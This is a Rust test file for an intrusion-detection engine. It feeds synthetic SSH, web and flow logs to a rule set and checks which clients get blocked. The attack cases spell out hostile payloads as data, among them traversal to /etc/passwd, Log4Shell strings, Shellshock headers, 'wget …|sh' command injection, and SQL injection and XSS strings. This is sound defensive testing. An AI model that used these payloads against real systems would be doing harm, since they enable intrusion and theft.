//! The starter pack on log lines of honest clients and of attackers: who is blocked, and who is not.

use std::fmt::Write;
use std::net::IpAddr;

use autosec_core::enforce::MemoryFirewall;
use autosec_core::engine::Engine;
use autosec_core::event::Schema;
use autosec_core::finding::FaultKind;
use autosec_core::rule::RuleSet;
use autosec_core::time::Timestamp;
use autosec_integrations::log::{Format, LogReader, Options};

/// Who every log is about.
const CLIENT: &str = "203.0.113.77";
/// Where flow records point.
const SERVER: &str = "198.51.100.1";
const BROWSER: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";

/// What a case is called, and its log.
type Case = (&'static str, String);

/// One log, one client.
#[derive(Clone, Copy)]
struct Visit {
    agent: &'static str,
    gap: usize,
    method: &'static str,
    referrer: &'static str,
    status: u16,
}

/// A browser that gets what it asks for, once a second.
const VISIT: Visit = Visit { agent: BROWSER, gap: 1, method: "GET", referrer: "-", status: 200 };
const POST: Visit = Visit { method: "POST", ..VISIT };
const MISSING: Visit = Visit { status: 404, ..VISIT };

impl Visit {
    fn agent(name: &'static str, agent: &'static str) -> Case {
        Self { agent, ..VISIT }.of(name, &["/"])
    }

    fn of(self, name: &'static str, urls: &[&str]) -> Case {
        self.many(name, urls.len(), |n| urls[n].to_owned())
    }

    /// As many requests as asked for, each for the URL of its number.
    fn many(self, name: &'static str, requests: usize, url: impl Fn(usize) -> String) -> Case {
        let mut log = String::new();
        for n in 0..requests {
            let Self { agent, method, referrer, status, .. } = self;
            let time = clock(n * self.gap);
            let url = url(n);
            writeln!(
                log,
                r#"{CLIENT} - - [22/Nov/2026:{time} +0000] "{method} {url} HTTP/1.1" {status} 100 "{referrer}" "{agent}""#
            )
            .unwrap();
        }
        (name, log)
    }

    /// A search that is sent with each key pressed.
    fn typed(name: &'static str, words: &str) -> Case {
        let words: String = words.chars().map(escaped).collect();
        let ends: Vec<usize> = (1..=words.len()).filter(|end| boundary(&words, *end)).collect();
        VISIT.many(name, ends.len(), |n| format!("/search?q={}", &words[..ends[n]]))
    }
}

/// As a form sends it.
fn escaped(letter: char) -> String {
    match letter {
        ' ' => "+".to_owned(),
        'a'..='z' | 'A'..='Z' | '0'..='9' | '-' | '_' | '.' | '*' => letter.to_string(),
        other => format!("%{:02X}", u32::from(other)),
    }
}

/// Whether a cut before `end` parts no `%XX`.
fn boundary(text: &str, end: usize) -> bool {
    let before = text[..end].rfind('%');
    before.is_none_or(|at| end >= at + 3)
}

/// The time of day so many seconds after two.
fn clock(seconds: usize) -> String {
    format!("{:02}:{:02}:{:02}", 14 + seconds / 3600, seconds / 60 % 60, seconds % 60)
}

/// What sshd says every `gap` seconds, with the client's address for `@`.
fn sshd(name: &'static str, gap: usize, messages: impl IntoIterator<Item = String>) -> Case {
    let mut log = String::new();
    for (n, message) in messages.into_iter().enumerate() {
        let message = message.replace('@', &format!("{CLIENT} port {}", 40_000 + n));
        writeln!(log, "Nov 22 {} web1 sshd[{}]: {message}", clock(n * gap), 100 + n).unwrap();
    }
    (name, log)
}

fn failed(user: &str) -> String {
    format!("Failed password for {user} from @ ssh2")
}

fn accepted(user: &str) -> String {
    format!("Accepted password for {user} from @ ssh2")
}

fn refused_key(user: &str, n: usize) -> String {
    format!("Failed publickey for {user} from @ ssh2: ED25519 SHA256:abc{n}")
}

fn accepted_key(user: &str) -> String {
    format!("Accepted publickey for {user} from @ ssh2: ED25519 SHA256:good")
}

/// The same message, so many times.
fn times(count: usize, message: impl Fn(usize) -> String) -> Vec<String> {
    (0..count).map(message).collect()
}

/// A record of one TCP or UDP flow.
struct Flow {
    transport: &'static str,
    from: (&'static str, usize),
    to: (String, usize),
    packets: usize,
}

fn flows(name: &'static str, count: usize, flow: impl Fn(usize) -> Flow) -> Case {
    let mut log = String::new();
    for n in 0..count {
        let Flow { transport, from: (source, source_port), to: (target, port), packets } = flow(n);
        writeln!(
            log,
            r#"{{"timestamp":"2026-11-22T{}.000000+0000","flow_id":{n},"event_type":"flow","src_ip":"{source}","src_port":{source_port},"dest_ip":"{target}","dest_port":{port},"proto":"{transport}","flow":{{"pkts_toserver":{packets},"pkts_toclient":1,"state":"closed"}}}}"#,
            clock(n / 2)
        )
        .unwrap();
    }
    (name, log)
}

/// A flow of the client to the server's port.
fn to_port(port: usize, packets: usize) -> Flow {
    Flow { transport: "TCP", from: (CLIENT, 45_000), to: (SERVER.to_owned(), port), packets }
}

fn alerts(name: &'static str, port: usize, category: &str) -> Case {
    let mut log = String::new();
    for n in 0..4 {
        writeln!(
            log,
            r#"{{"timestamp":"2026-11-22T{}.000000+0000","event_type":"alert","src_ip":"{CLIENT}","src_port":{port},"dest_ip":"{SERVER}","dest_port":4000,"proto":"TCP","alert":{{"action":"allowed","signature_id":7,"signature":"x","category":"{category}","severity":1}}}}"#,
            clock(n)
        )
        .unwrap();
    }
    (name, log)
}

/// Everybody's engine: rules that are built once, because that takes longer than all the logs.
struct Edge {
    engine: Engine,
    firewall: MemoryFirewall,
}

impl Edge {
    fn new() -> Self {
        let rules = RuleSet::builder(&Schema::ecs()).starter().build().unwrap();
        let firewall = MemoryFirewall::new("edge");
        let engine = Engine::builder().detector(rules).firewall(firewall.clone()).build().unwrap();
        Self { engine, firewall }
    }

    /// Whether the firewall drops the client or the server after the log, both of which move to addresses of their own.
    async fn blocks(&self, case: usize, log: &str) -> bool {
        let (client, server) = (format!("203.0.113.{case}"), format!("198.51.100.{case}"));
        let log = log.replace(CLIENT, &client).replace(SERVER, &server);
        let reference = Timestamp::parse("2026-12-01T00:00:00Z").unwrap();
        let mut reader = LogReader::new(log.as_bytes(), Format::Auto, Options::new(reference));
        while let Some(line) = reader.read().unwrap() {
            let verdict = self.engine.process(line.unwrap());
            // Logs overlap in time, which is late for what is counted by user alone.
            assert!(verdict.faults.iter().all(|fault| fault.kind == FaultKind::Late), "{:?}", verdict.faults);
            for decision in verdict.decisions() {
                assert!(self.engine.enforce(decision).await.is_complete());
            }
        }
        [client, server].iter().any(|address| self.firewall.drops(address.parse::<IpAddr>().unwrap()))
    }
}

/// Fails with the names of all cases that end otherwise than expected.
async fn assert_all(cases: impl IntoIterator<Item = Case>, blocked: bool) {
    let edge = Edge::new();
    let mut wrong = Vec::new();
    for (case, (name, log)) in cases.into_iter().enumerate() {
        if edge.blocks(case + 1, &log).await != blocked {
            wrong.push(name);
        }
    }
    let what = if blocked { "not blocked" } else { "blocked" };
    assert!(wrong.is_empty(), "{what}: {wrong:#?}");
}

#[tokio::test]
async fn honest_logins_pass() {
    assert_all(
        [
            sshd(
                "four mistypes, then right",
                5,
                [times(4, |_| failed("ann")), vec![accepted("ann")]].concat(),
            ),
            sshd("an office of five, one mistype each", 20, office(1)),
            sshd("an office of five, two mistypes each", 20, office(2)),
            sshd(
                "an agent of five keys",
                1,
                [times(5, |n| refused_key("ann", n)), vec![accepted_key("ann")]].concat(),
            ),
            sshd(
                "an agent of five keys and a mistyped name",
                1,
                times(5, |n| refused_key("invalid user an", n)),
            ),
            sshd(
                "a build machine with a wrong key first",
                1,
                times(300, |n| match n % 3 {
                    0 | 1 => refused_key("ci", n),
                    _ => accepted_key("ci"),
                }),
            ),
            sshd("a build machine by key", 1, times(400, |_| accepted_key("ci"))),
            sshd(
                "a monitor that closes the port",
                20,
                times(90, |_| "Connection closed by @ [preauth]".to_owned()),
            ),
            sshd(
                "a monitor that says nothing",
                5,
                times(90, |_| "Did not receive identification string from @".to_owned()),
            ),
            sshd(
                "a health check of another protocol",
                10,
                times(60, |_| "banner exchange: Connection from @: invalid format".to_owned()),
            ),
            sshd(
                "a job whose key was revoked",
                30,
                times(60, |_| "Connection closed by authenticating user backup @ [preauth]".to_owned()),
            ),
            sshd(
                "a job whose user was taken off the list",
                60,
                times(120, |_| {
                    "User backup from @ not allowed because not listed in AllowUsers".replace('@', CLIENT)
                }),
            ),
            sshd(
                "an agent with too many keys, five times",
                30,
                times(5, |_| {
                    "error: maximum authentication attempts exceeded for ann from @ ssh2 [preauth]".to_owned()
                }),
            ),
            sshd(
                "a forgotten user name of a rented machine",
                10,
                ["admin", "ubuntu", "debian", "ec2-user", "centos"].iter().flat_map(|user| {
                    [
                        format!("Invalid user {user} from @"),
                        format!("Connection closed by invalid user {user} @ [preauth]"),
                    ]
                }),
            ),
            sshd("one mistyped name, three passwords", 5, times(3, |_| failed("invalid user amm"))),
        ],
        false,
    )
    .await;
}

/// Five users behind one address who mistype, then succeed.
fn office(mistypes: usize) -> Vec<String> {
    let user = |user: &&str| [times(mistypes, |_| failed(user)), vec![accepted(user)]].concat();
    ["ann", "bob", "carol", "dave", "eve"].iter().flat_map(user).collect()
}

#[tokio::test]
async fn attacks_on_ssh_are_blocked() {
    assert_all(
        [
            sshd("twelve passwords for one user", 18, times(12, |_| failed("ann"))),
            sshd("one password for many users", 30, times(10, |n| failed(&format!("user{n}")))),
            sshd("passwords for unknown users", 60, times(8, |n| failed(&format!("invalid user u{n}")))),
            sshd("sshd 9.8 and later", 3, times(10, |_| failed("root"))).map_process("sshd-session"),
            sshd("passwords, slowly", 600, times(40, |_| failed("root"))),
            sshd("unknown users, slowly", 900, times(30, |n| failed(&format!("invalid user u{n}")))),
            sshd("keys only: unknown users", 3, times(60, |n| match n % 2 {
                0 => format!("Invalid user u{n} from @"),
                _ => format!("Connection closed by invalid user u{} @ [preauth]", n - 1),
            })),
            sshd("keys only: older sshd", 3, times(20, |n| format!("Connection closed by invalid user u{n} @ [preauth]"))),
            sshd("keys only: root again and again", 3, times(60, |_| "Connection closed by authenticating user root @ [preauth]".to_owned())),
            sshd("all attempts used up", 5, times(30, |_| "error: maximum authentication attempts exceeded for root from @ ssh2 [preauth]".to_owned())),
            sshd("a user who may not", 5, times(30, |_| "User root from @ not allowed because not listed in AllowUsers".replace('@', CLIENT))),
            sshd("PAM alone", 3, times(20, |_| format!("pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={CLIENT}  user=root"))),
            sshd("PAM alone, as sshd says it", 3, times(20, |_| format!("error: PAM: Authentication failure for root from {CLIENT}"))),
            sshd("PAM alone, unknown users", 3, times(20, |n| format!("error: PAM: Authentication error for illegal user x{n} from {CLIENT}"))),
            sshd("garbage instead of SSH", 1, times(30, |_| "banner exchange: Connection from @: invalid format".to_owned())),
            sshd("keys for many users", 10, times(20, |n| refused_key(&format!("user{n}"), n))),
            sshd("repeated by the syslog daemon", 1, [format!("message repeated 5 times: [ {}]", failed("root"))]),
        ],
        true,
    )
    .await;
}

/// A case whose lines another process wrote.
trait Process {
    fn map_process(self, process: &str) -> Case;
}

impl Process for Case {
    fn map_process(self, process: &str) -> Case {
        (self.0, self.1.replace("sshd[", &format!("{process}[")))
    }
}

#[tokio::test]
async fn honest_searches_pass() {
    assert_all(
        [
            Visit::typed("prose", "cats and dogs like bones"),
            Visit::typed("prose with an apostrophe", "O'Brien or O'Neill; rock 'n' roll"),
            Visit::typed("prose with a dash and a number", "it's #1 -- o'brien--smith"),
            Visit::typed(
                "prose with union and select",
                "trade union select 5 committee members, from 1 to 9",
            ),
            Visit::typed(
                "SQL",
                "SELECT name FROM users WHERE a = 1 AND b = 2 UNION SELECT 1, 2; DROP TABLE x",
            ),
            Visit::typed("SQL about sleeping", "how does select sleep(5) and benchmark(1,2) work"),
            Visit::typed(
                "a shell",
                "what is the difference of $(id) and `id`; curl https://example.org/a.sh | sh",
            ),
            Visit::typed("code", "function main() { return a && b || c; }"),
            Visit::typed("Python", "time.sleep(10) in a thread and join()"),
            Visit::typed("JavaScript", "alert('hello') and document.cookie onload= javascript:"),
            Visit::typed("tags", "<script> and <img src=x> and <svg> in HTML"),
            Visit::typed("a tutorial", "<button onclick=\"alert('hi')\">press</button> does nothing"),
            Visit::typed("templates", "{{ name }} and ${HOME} and ${{ github.ref }} and {{ 3 * 4 }}"),
            Visit::typed("Log4Shell", "what is ${jndi: in log4j"),
            Visit::typed("the password file", "what is /etc/passwd and why is /etc/shadow secret"),
            Visit::typed("a Windows file", "where is win.ini"),
            Visit::typed("PHP streams", "php://input is empty"),
            Visit::typed("a build error", "Module not found: can't resolve '../../../../components/x'"),
            Visit::typed("dots", "wait.... what ../ means"),
            VISIT.of(
                "a lesson about the password file",
                &["/search?q=/etc/passwd", "/search?q=/etc/shadow", "/wiki//etc/passwd"],
            ),
            VISIT.of(
                "tautologies in prose",
                &["/s?q=you+and+me+%3D+love", "/s?q=this+or+that+%3D+x", "/s?q=1+and+1+%3D+2"],
            ),
        ],
        false,
    )
    .await;
}

#[tokio::test]
async fn honest_applications_pass() {
    assert_all(
        [
            VISIT.many("Jira", 9, |n| {
                format!("/rest/api/2/search?jql=project+%3D+ABC+AND+status+%3D+Done&n={n}")
            }),
            VISIT.many("Jira with quotes", 9, |n| {
                format!("/rest/api/2/search?jql=%22Epic+Link%22%3D%22ABC-{n}%22+AND+%22Team%22%3D%22Web%22")
            }),
            VISIT.many("PromQL", 9, |n| format!("/api/v1/query?query=up+and+on(job)+node_load1+%3E+{n}")),
            VISIT.many("Grafana", 9, |n| {
                format!("/explore?left=%7B%22queries%22:[%7B%22expr%22:%22a%20and%20b%20%3E%20{n}%22%7D]%7D")
            }),
            VISIT.many("OData", 9, |n| {
                format!("/odata/Products?$filter=Price+gt+{n}+and+Name+eq+'x'+or+startswith(Name,'a')")
            }),
            VISIT.many("GraphQL", 9, |n| {
                format!("/graphql?query=%7Buser(id:%22{n}%22)%7Bname,posts(first:5)%7Bid%7D%7D%7D")
            }),
            VISIT.many("Kibana", 9, |n| format!("/s?q=status:50{n}+AND+host:web+OR+(a:1+AND+b:%22x%22)")),
            VISIT.many("fields of an API", 9, |n| {
                format!("/w/api.php?prop=info|id&rvprop=timestamp|user|ids&titles=A{n}|B")
            }),
            VISIT.many("a database console", 9, |n| {
                format!(
                    "/sql.php?db=x&sql_query=SELECT+*+FROM+t+WHERE+a%3D1+OR+b%3D%60id%60+ORDER+BY+1&pos={n}"
                )
            }),
            VISIT.of(
                "a database console sorts",
                &["/t?order=%60id%60", "/t?fields=name|id", "/t?order=%60name%60"],
            ),
            VISIT.of(
                "a console edits files",
                &[
                    "/edit.cgi?file=/etc/hosts",
                    "/?folder=/etc/nginx",
                    "/?uri=file:///home/ann/x.ts",
                    "/?file=./etc/app.ini",
                ],
            ),
            MISSING.many("a client that looks for records", 60, |n| {
                format!("/api/items/{n:08x}-0000-4000-8000-000000000000")
            }),
            MISSING.of(
                "a crawler of careless links",
                &[r"/..\\images\\a.gif", "/..%5Cimages%5Cb.gif", "/a/../b"],
            ),
            VISIT.of(
                "WordPress at work",
                &[
                    "/wp-admin/load-scripts.php?c=1&load%5Bchunk_0%5D=jquery-core,jquery-migrate,utils",
                    "/wp-admin/customize.php?return=%2Fwp-admin%2Fthemes.php",
                    "/wp-admin/admin-ajax.php?action=heartbeat",
                    "/wp-login.php?redirect_to=https%3A%2F%2Fexample.org%2Fwp-admin%2F&reauth=1",
                ],
            ),
            VISIT.of(
                "a relative link to return to",
                &["/login?next=../../dashboard", "/login?next=%2E%2E%2F%2E%2E%2Fdash"],
            ),
            VISIT.of(
                "GitLab",
                &[
                    "/api/v4/projects/group%2Fproject/repository/files/..%2FREADME/raw?ref=main",
                    "/g/p/-/compare/main...feature%2Fx",
                ],
            ),
            VISIT.of(
                "a repository of dotfiles",
                &[
                    "/u/dots/src/.env",
                    "/u/dots/src/.ssh/config",
                    "/u/dots/src/.htaccess",
                    "/u/dots/blob/etc/passwd",
                ],
            ),
            VISIT.of("Chinese in its old encoding", &["/s?kw=%c0%ae", "/s?kw=%C0%AE%B0%C9", "/%c0%ae.html"]),
            Visit { agent: "git/2.47.3", ..MISSING }.of(
                "git over plain HTTP",
                &["/p/.git/info/refs", "/p/.git/HEAD", "/p/.git/config", "/p/.git/objects/info/packs"],
            ),
            Visit { status: 401, gap: 2, ..VISIT }
                .many("polling without a login", 400, |_| "/api/me".to_owned()),
            Visit { status: 401, ..VISIT }
                .many("WebDAV asks without a login first", 60, |n| format!("/dav/{n}.txt")),
            Visit { gap: 20, ..MISSING }.many("a monitor of a missing page", 90, |_| "/healthz".to_owned()),
            Visit { gap: 0, ..MISSING }.many("25 missing links", 25, |n| format!("/old/{n}")),
            Visit { gap: 0, ..MISSING }
                .many("a page with many missing pictures", 80, |n| format!("/img/{n}.png")),
            MISSING.many("missing map tiles", 400, |n| format!("/tiles/12/{n}/7.pbf")),
            Visit { method: "HEAD", agent: "docker/24.0.7 go/go1.20", ..MISSING }.many(
                "docker push",
                60,
                |n| format!("/v2/app/blobs/sha256:{n:064}"),
            ),
            MISSING.many("a build cache", 400, |n| format!("/cas/{n:064x}")),
            MISSING.many("Maven", 200, |n| format!("/repository/internal/org/a/{n}/a-{n}.pom")),
            Visit { method: "HEAD", ..MISSING }
                .many("a backup to an object store", 200, |n| format!("/bucket/dir/{n}.bin")),
            Visit { status: 302, ..POST }.many("a classroom logs in", 30, |_| "/wp-login.php".to_owned()),
            Visit { gap: 10, ..POST }
                .many("a service that looks after a site", 60, |_| "/xmlrpc.php".to_owned()),
        ],
        false,
    )
    .await;
}

#[tokio::test]
async fn honest_agents_and_flows_pass() {
    assert_all(
        [
            Visit::agent("Ory hydra", "ory-hydra/2.2"),
            Visit::agent("a name that holds another", "my-nikto-report/1.0"),
            Visit::agent("a template that was not filled in", "App/${version} (${os.name})"),
            Visit::agent("a function in the middle", "App/1.0 (function() { })"),
            Visit { referrer: "https://example.org/?q=function()+{", ..VISIT }
                .of("a referrer with code", &["/"]),
            flows("answers of a resolver", 60, |n| Flow {
                transport: "UDP",
                from: (CLIENT, 53),
                to: (SERVER.to_owned(), 20_000 + n),
                packets: 1,
            }),
            flows("answers of a web server", 60, |n| Flow {
                transport: "TCP",
                from: (CLIENT, 443),
                to: (SERVER.to_owned(), 20_000 + n),
                packets: 3,
            }),
            flows("passive FTP", 60, |n| to_port(30_000 + n, 5)),
            flows("a peer-to-peer client", 60, |n| Flow {
                transport: "TCP",
                from: (SERVER, 40_000),
                to: (format!("192.0.2.{n}"), 20_000 + n),
                packets: 1,
            }),
            flows("mail delivery", 60, |n| Flow {
                transport: "TCP",
                from: (SERVER, 40_000 + n),
                to: (format!("192.0.2.{n}"), 25),
                packets: 20,
            }),
            alerts("answers of a victim", 80, "Attempted Administrator Privilege Gain"),
            alerts("office policy", 40_000, "Potential Corporate Privacy Violation"),
        ],
        false,
    )
    .await;
}

#[tokio::test]
async fn scans_and_floods_are_blocked() {
    assert_all(
        [
            Visit { gap: 0, ..MISSING }.many("forty missing pages", 40, |n| format!("/old-admin-{n}.php")),
            Visit { gap: 4, ..MISSING }.many("a slow scan", 200, |n| format!("/p{n}")),
            Visit { status: 403, ..VISIT }.many("refused pages", 60, |n| format!("/admin/{n}")),
            MISSING.of("forgotten files", &["/.env", "/.git/config", "/.aws/credentials"]),
            VISIT.of("forgotten files that are there", &["/.env", "/.git/config", "/.git/HEAD"]),
            MISSING.of("forgotten files in folders", &["/api/.env", "/app/.env", "/old/.git/config"]),
            POST.many("logins to WordPress", 30, |_| "/wp-login.php".to_owned()),
            POST.many("XML-RPC", 60, |_| "/blog/xmlrpc.php".to_owned()),
            Visit::agent("sqlmap", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
            Visit::agent("Nikto", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)"),
            Visit::agent(
                "nmap",
                "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
            ),
            Visit::agent("ffuf", "Fuzz Faster U Fool v2.1.0-dev"),
            Visit::agent("WPScan", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"),
            Visit::agent("gobuster", "gobuster/3.5"),
            flows("a port scan", 60, |n| to_port(n + 1, 1)),
            flows("a port scan that connects", 60, |n| to_port(n + 1, 3)),
            flows("a sweep", 60, |n| Flow {
                transport: "TCP",
                from: (CLIENT, 40_000 + n),
                to: (format!("192.0.2.{n}"), 445),
                packets: 1,
            }),
            alerts("alerts", 40_000, "Attempted Administrator Privilege Gain"),
        ],
        true,
    )
    .await;
}

/// Each of these is blocked by one request.
#[tokio::test]
async fn one_request_is_enough() {
    let requests = [
        ("traversal", "/../../etc/passwd"),
        ("traversal, encoded", "/a/%2e%2e/%2e%2e/secret"),
        ("traversal, slashes encoded", "/..%2f..%2f..%2fsecret"),
        ("traversal, encoded twice", "/a/%252e%252e%252fsecret"),
        ("traversal, encoded thrice", "/a/%25252e%25252e%25252fsecret"),
        ("traversal, parameters", "/..;/manager/html"),
        ("traversal, overlong", "/%c0%ae%c0%ae/%c0%ae%c0%ae/secret"),
        ("traversal, overlong slash", "/img/..%c0%af..%c0%afsecret"),
        ("traversal, %u", "/%u002e%u002e/%u002e%u002e/etc/pass"),
        ("traversal, nul", "/..%00/..%00/secret"),
        ("traversal, doubled", "/....//....//secret.txt"),
        ("traversal, backslashes", r"/..\\..\\windows\\system.ini"),
        ("traversal, wide slash", "/a/..%ef%bc%8f..%ef%bc%8fsecret"),
        ("traversal, as a proxy", "http://h/../../etc/passwd"),
        ("traversal of CGI", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh"),
        ("traversal of CGI, encoded twice", "/cgi-bin/.%%32%65/.%%32%65/bin/sh"),
        ("query, climbing", "/d?f=../../../../etc/passwd"),
        ("query, climbing in Windows", r"/d?f=..\\..\\windows\\win.ini"),
        ("query, doubled", "/d?f=....//....//secret"),
        ("query, encoded twice", "/d?f=%252e%252e%252fetc%252fpasswd"),
        ("query, nul", "/d?f=/etc/passwd%00.html"),
        ("query, doubled slash", "/d?f=/etc//passwd"),
        ("query, file", "/d?f=file:/etc/group"),
        ("query, file with an empty host", "/d?page=file:///etc/passwd"),
        ("query, PHP filter", "/d?page=php://filter/convert.base64-encode/resource=index"),
        ("Log4Shell", "/x?a=$%7Bjndi:ldap://e/a%7D"),
        ("Log4Shell, mixed case", "/x?a=$%7BJnDi:ldap://e/a%7D"),
        ("Log4Shell, lower", "/x?a=$%7B$%7Blower:j%7Dndi:ldap://e/a%7D"),
        ("Log4Shell, empty", "/x?a=$%7B$%7B::-j%7D$%7B::-n%7Ddi:ldap://e/a%7D"),
        ("Log4Shell, env", "/x?a=$%7B$%7Benv:X:-j%7Dndi:ldap://e/a%7D"),
        ("Log4Shell, encoded twice", "/x?a=%2524%257Bjndi:ldap://e%257D"),
        ("Log4Shell in the path", "/$%7Bjndi:ldap://e/a%7D"),
        ("command in place", "/x?ip=$(id)"),
        (
            "command in place, router",
            "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)",
        ),
        ("command behind a semicolon", "/x?ip=1;wget+http://e/a.sh"),
        ("command behind a bar", "/x?ip=1|cat+/etc/hosts"),
        ("command of a web shell", "/x?c=wget+http://e/a.sh|sh"),
        ("template", "/x?n=%7B%7B7*7%7D%7D"),
        ("template, dollar", "/x?n=$%7B7*7%7D"),
        ("PHPUnit", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
        (
            "ThinkPHP",
            r"/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5",
        ),
        ("a shell as CGI", "/cgi-bin/bash"),
    ];
    let requests = requests.map(|(name, url)| VISIT.of(name, &[url]));
    let header = |name, agent, referrer| Visit { agent, referrer, ..VISIT }.of(name, &["/"]);
    let headers = [
        header("Log4Shell in the agent", "${${::-j}${::-n}${::-d}${::-i}:${::-l}dap://e/a}", "-"),
        header("Log4Shell in the agent, upper", "${${upper:j}ndi:ldap://e/a}", "-"),
        header("Log4Shell in the agent, env", "${j${env:NONE:-n}di:ldap://e/f}", "-"),
        header("Log4Shell in the referrer", BROWSER, "${jndi:rmi://e/b}"),
        header("Shellshock", "() { :; }; /bin/bash -c id", "-"),
        header("Shellshock with a tab", "()\\t{ :;}; id", "-"),
        header("Shellshock without blanks", "(){ :;}; id", "-"),
        header("Shellshock in the referrer", BROWSER, "() { :; }; id"),
    ];
    assert_all(requests.into_iter().chain(headers), true).await;
}

#[tokio::test]
async fn injections_are_blocked() {
    let each = |name, payload: &'static str| VISIT.many(name, 4, move |n| format!("/p?id={payload}&x={n}"));
    assert_all(
        [
            each("a comparison", "'or'1'='1"),
            each("a comparison behind a number", "1+or+1%3D1"),
            each("a comparison behind a bar", "'||1=1"),
            each("a comparison to a comment", "admin'+or+1=1--+-"),
            VISIT.many("the same comparison", 4, |_| "/p?id='or'1'='1".to_owned()),
            each("union", "-1+union+select+null,null"),
            each("union between comments", "1/**/union/**/select/**/1,2"),
            each("union in comments", "1/*!50000union*/+/*!50000select*/+1,2"),
            each("union in other blanks", "1%09uNiOn%0AsElEcT%0D1,2"),
            each("union of a variable", "-1+union+select+@@version+--+-"),
            each("union of brackets", "-1+union+select(1),2"),
            each("union of the different", "-1+union+distinct+select+1,2"),
            each("union of columns", "-1'+union+all+select+user,password+from+users--"),
            VISIT.many("sorting by column", 11, |n| format!("/p?id=1'+order+by+{}--+-", n + 1)),
            each("sorting by many columns", "1+order+by+99--"),
            each("a pause", "1+and+sleep(5)"),
            each("a pause of another database", "1';waitfor+delay+'0:0:5'--"),
            each("a pause in brackets", "(select*from(select(sleep(5)))a)"),
            each("a stacked statement", "1;drop+table+users--"),
            each("a comment", "admin'--"),
            each("an error that tells", "1'+and+extractvalue(1,concat(0x7e,version()))--"),
            each("encoded twice", "1%2527%2520or%25201%253D1"),
            VISIT.of(
                "in the path",
                &[
                    "/p/1'+union+select+1,2--+",
                    "/p/1%20union%20select%201,2,3",
                    "/p/1%20or%201=1",
                    "/p/1%20or%201=2",
                ],
            ),
            VISIT.of(
                "script",
                &[
                    "/x?q=<script>alert(1)</script>",
                    "/x?q=<ScRiPt+src=//e/x.js>",
                    "/x?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
                ],
            ),
            VISIT.of(
                "handlers",
                &[
                    "/x?q=%3Cimg/src=x+onerror%0a=confirm(1)%3E",
                    "/x?q=%3Cdetails+ontoggle=confirm(1)%3E",
                    "/x?q=%3Cinput+autofocus+onfocus=confirm(1)%3E",
                    "/x?q=<svg/onload=alert(1)>",
                ],
            ),
            VISIT.of(
                "script encoded twice",
                &["/x?a=%253Cscript%253E1", "/x?b=%253Cscript%253E1", "/x?c=%253Cscript%253E1"],
            ),
            VISIT.of(
                "script as an address",
                &["/x?u=javascript:alert(1)", "/x?v=javascript:alert(1)", "/x?w=javascript:alert(1)"],
            ),
            VISIT.of("system files", &["/d?f=/etc/group", "/d?f=/etc/./passwd", "/d?f=/etc/hosts"]),
            VISIT.of(
                "system files through a search box",
                &[
                    "/s?q=../../etc/passwd",
                    "/s?q=../etc/passwd",
                    "/s?q=/etc/shadow",
                    "/s?q=file:///etc/hosts",
                    "/s?q=/proc/self/environ",
                ],
            ),
        ],
        true,
    )
    .await;
}
